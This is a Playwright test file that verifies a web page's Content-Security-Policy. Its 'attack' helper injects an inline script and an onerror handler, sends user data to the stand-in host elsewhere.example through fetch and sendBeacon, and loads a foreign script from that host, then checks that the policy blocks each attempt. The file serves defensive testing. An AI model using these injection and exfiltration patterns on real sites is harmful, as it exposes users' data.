/** The browser itself holds the page to its promise: its content policy. */
import { readdirSync, readFileSync } from 'node:fs';
import { expect, type Page, test } from '@playwright/test';
import { dist, english, openStart } from './journey';
import { hostPlainly } from './plain-host';
import { watch } from './watch';

const policy = [
  "default-src 'none'",
  "script-src 'self'",
  "worker-src 'self'",
  "style-src 'self'",
  "img-src 'self'",
  "font-src 'self'",
  "connect-src 'self'",
  "manifest-src 'self'",
  "base-uri 'none'",
  "form-action 'none'",
].join('; ');

test('the built page names its policy before anything it loads', async ({ page }) => {
  await openStart(page, english);
  const metas = page.locator('meta[http-equiv="Content-Security-Policy" i]');
  await expect(metas).toHaveCount(1);
  await expect(metas).toHaveAttribute('content', policy);
  expect(policy).not.toContain('unsafe');
  const html = readFileSync(`${dist}/index.html`, 'utf8');
  expect(html.indexOf('Content-Security-Policy')).toBeLessThan(
    html.search(/<(script|link|style)\b/),
  );
});

test('the host sends it with every file, and says it in _headers', async ({ request }) => {
  for (const file of ['', ...readdirSync(`${dist}/assets`).map((name) => `assets/${name}`)]) {
    const headers = (await request.get(`./${file}`)).headers();
    expect(headers['content-security-policy']).toBe(`${policy}; frame-ancestors 'none'`);
    expect(headers['referrer-policy']).toBe('no-referrer');
    expect(headers['x-content-type-options']).toBe('nosniff');
  }
  const written = readFileSync(`${dist}/_headers`, 'utf8');
  expect(written).toContain(`Content-Security-Policy: ${policy}; frame-ancestors 'none'`);
});

/** What a hostile text would try. @returns what it achieved */
async function attack(page: Page): Promise<string[]> {
  await page.route('https://elsewhere.example/**', (route) =>
    route.fulfill({ headers: { 'Access-Control-Allow-Origin': '*' }, body: 'got it' }),
  );
  return page.evaluate(async () => {
    const done: string[] = [];
    const win = window as unknown as { ran?: boolean };
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    document.body.append(script);
    if (win.ran) done.push('inline script');
    const image = document.createElement('img');
    image.setAttribute('onerror', 'window.ran2 = true');
    image.src = 'data:image/png;base64,broken';
    document.body.append(image);
    await new Promise((settled) => {
      image.addEventListener('error', settled);
    });
    if ('ran2' in window) done.push('inline handler');
    const sent = (what: string) => () => done.push(what);
    const blocked = () => undefined;
    await fetch('https://elsewhere.example/?nationality=CO').then(sent('fetch'), blocked);
    if (navigator.sendBeacon('https://elsewhere.example/beacon', 'CO')) await blocked();
    const foreign = document.createElement('script');
    const settled = new Promise<void>((end) => {
      foreign.addEventListener('load', () => {
        done.push('foreign script');
        end();
      });
      foreign.addEventListener('error', () => end());
    });
    foreign.src = 'https://elsewhere.example/a.js';
    document.body.append(foreign);
    await settled;
    return done;
  });
}

test('the policy stops scripts and requests that are not the page’s own', async ({ page }) => {
  const host = await hostPlainly('/');
  const seen = await watch(page);
  await openStart(page, english, host.address);
  expect(await attack(page)).toEqual([]);
  const said = seen.complaints.join('\n');
  for (const directive of ['script-src-elem: inline', 'script-src-attr: inline', 'connect-src: '])
    expect(said).toContain(directive);
  const foreign = seen.requests.filter((one) => one.url().includes('elsewhere.example'));
  for (const request of foreign) expect(request.failure()?.errorText).toBe('csp');
  host.close();
});

test('without the policy the same attack succeeds, so the test above can fail', async ({
  page,
}) => {
  const host = await hostPlainly('/');
  await page.route(host.address, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace(/<meta http-equiv="Content-Security[^>]*>/, '');
    await route.fulfill({ response, body });
  });
  await openStart(page, english, host.address);
  expect(await attack(page)).toEqual([
    'inline script',
    'inline handler',
    'fetch',
    'foreign script',
  ]);
  host.close();
});
